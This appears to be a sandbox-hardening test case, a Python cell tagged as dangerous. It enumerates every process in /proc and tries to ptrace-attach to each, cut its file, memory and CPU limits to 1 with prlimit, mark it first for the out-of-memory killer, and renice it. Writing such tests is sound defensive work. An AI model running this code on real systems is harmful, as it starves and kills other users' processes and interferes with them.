# intent: whatever keeps the process is traced, starved of files and memory by prlimit, and made the first to be killed
# family: death
# danger: yes
# stock: not run: it would take the limits of other processes down
# sibling: yes
# limits: cell_seconds=4 submission_seconds=15

# %%
import ctypes
import os
import resource

libc = ctypes.CDLL(None, use_errno=True)
for name in os.listdir("/proc"):
    if not name.isdigit() or int(name) == os.getpid():
        continue
    done = []
    if libc.ptrace(16, int(name), 0, 0) == 0:
        done.append("ptrace")
    for limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_CPU):
        try:
            resource.prlimit(int(name), limit, (1, 1))
            done.append("prlimit")
        except OSError:
            pass
    try:
        with open(f"/proc/{name}/oom_score_adj", "w") as file:
            file.write("1000")
        done.append("oom")
    except OSError:
        pass
    try:
        os.setpriority(os.PRIO_PROCESS, int(name), 19)
        done.append("nice")
    except OSError:
        pass
    if done:
        print("the-attack" + "-worked", done)
